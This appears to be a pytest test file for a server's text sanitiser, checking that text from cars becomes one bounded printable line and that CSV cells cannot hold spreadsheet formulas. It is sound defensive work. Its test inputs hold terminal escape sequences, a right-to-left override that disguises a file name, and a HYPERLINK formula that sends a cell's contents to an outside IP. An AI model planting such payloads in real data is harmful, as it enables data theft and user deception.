"""Text from cars: one printable line of bounded length, and no formula in a spreadsheet's cell."""

import csv
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleven.app.server.results import CLIENT_COLUMNS, RunFiles
from fleven.app.server.text import cell, clean
from fleven.app.settings import parse


@given(st.text(max_size=300), st.integers(1, 100))
def test_cleaned_text_is_one_printable_line_and_stays_as_it_is(text: str, characters: int) -> None:
    once = clean(text, characters)
    assert len(once) <= characters
    assert once.isprintable()
    assert clean(once, characters) == once


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("car-1", "car-1"),
        ("Ünïcödé 车 3", "Ünïcödé 车 3"),
        (" two\n lines\t", "two lines"),
        ("\x1b]0;pwned\x07\x1b[2Jx", "]0;pwned[2Jx"),
        ("\u202etxt.exe\u2069", "txt.exe"),
        ("a\u2028b\u2029c\x85d", "a b c d"),
        ("\ufeffz\u200bw\ud800", "zw"),
        ("x" * 60, "x" * 49 + "…"),
    ],
)
def test_what_is_cleaned(text: str, cleaned: str) -> None:
    assert clean(text, 50) == cleaned


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("car=1", "car=1"), (-1.5, -1.5)],
)
def test_cells_are_no_formulas(value: Any, written: Any) -> None:
    assert cell(value) == written


def test_tables_hold_no_formula_and_json_holds_the_name_itself(tmp_path: Path) -> None:
    settings = parse({"metrics-base-path": str(tmp_path / "m"), "results-base-path": str(tmp_path / "r")})
    files = RunFiles(settings, 1)
    name = '=HYPERLINK("http://203.0.113.9/?"&A1,"car-1")'
    files.clients([{"round": -1, "node_name": name, "rmse": -0.5}])
    with (files.metrics / "clients.csv").open(newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert list(row) == list(CLIENT_COLUMNS)
    assert (row["node_name"], row["round"], row["rmse"]) == (f"'{name}", "-1", "-0.5")
    assert '"=HYPERLINK(' in (files.metrics / "clients.json").read_text()
